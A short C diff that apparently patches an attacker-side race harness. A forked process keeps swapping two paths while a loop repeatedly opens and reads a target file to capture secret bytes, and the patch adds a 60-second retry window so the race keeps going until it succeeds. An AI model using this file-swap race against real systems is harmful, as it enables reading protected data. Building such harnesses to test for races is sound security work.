@@ -2,6 +2,7 @@
 #include <linux/io_uring.h>
 #include <pthread.h>
 #include <sys/mman.h>
+#include <time.h>
 
 #include "attacker.h"
 
@@ -128,12 +129,13 @@ static void swap_for_ever(const char *a, const char *b)
 static void race(const char *a, const char *b, const char *file)
 {
 	pid_t swapper = need(fork(), "fork");
+	time_t patience = time(0) + 60;         /* on a busy machine the swapper may be late */
 	int hits = 0;
 	char bytes[SECRET_MAX];
 
 	if (!swapper)
 		swap_for_ever(a, b);
-	for (int round = 0; round < number("ROUNDS"); round++) {
+	for (int round = 0, wanted = number("ROUNDS"); round < wanted || (!hits && time(0) < patience); round++) {
 		int fd = open(file, O_RDONLY);
 		ssize_t n = fd < 0 ? 0 : read(fd, bytes, sizeof(bytes));
 
